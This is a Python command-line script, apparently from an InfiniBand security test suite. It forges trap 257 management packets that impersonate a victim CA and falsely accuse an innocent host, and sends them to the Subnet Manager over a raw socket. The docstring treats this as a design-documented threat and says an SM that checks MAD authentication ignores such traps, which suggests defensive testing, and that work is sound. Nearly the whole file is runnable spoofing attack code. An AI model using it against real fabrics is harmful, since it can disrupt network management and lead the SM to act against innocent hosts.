"""Forged traps (new threat, DESIGN section 8): trap 257 naming an innocent host, sent to the SM.

The forger claims to be the victim CA (source GID and issuer) and accuses ``--accused-gid`` (with the
marking field that would lead the SM to the innocent host's port). Without the victim's CA key its
authentication trailer is random, so an SM that checks MAD authentication ignores it.
"""

from __future__ import annotations

import os

from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run
from .forging import forged_trap


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.set_defaults(count=1)
    p.add_argument("--sm-gid", required=True, help="the SM's GID")
    p.add_argument("--victim-gid", required=True, help="the CA the trap pretends to come from")
    p.add_argument("--accused-gid", required=True, help="the innocent host the trap accuses")
    p.add_argument("--mf", type=int0, default=0, help="marking field claimed for the accused's packets")
    p.add_argument("--pkey", type=int0, default=0x7BAD, help="the bad P_Key it reports")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    victim = gid_bytes(gid_text(args.victim_gid))
    builder = Builder(sock.mac, victim)
    tid = int.from_bytes(os.urandom(6), "big")
    summary = blast(
        sock,
        lambda i: forged_trap(
            builder,
            args.sm_gid,
            gid_text(args.accused_gid),
            gid_text(args.victim_gid),
            args.mf,
            args.pkey,
            tid + i,
        ),
        args,
    )
    report({"attack": "forge_trap", "accused": gid_text(args.accused_gid), **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
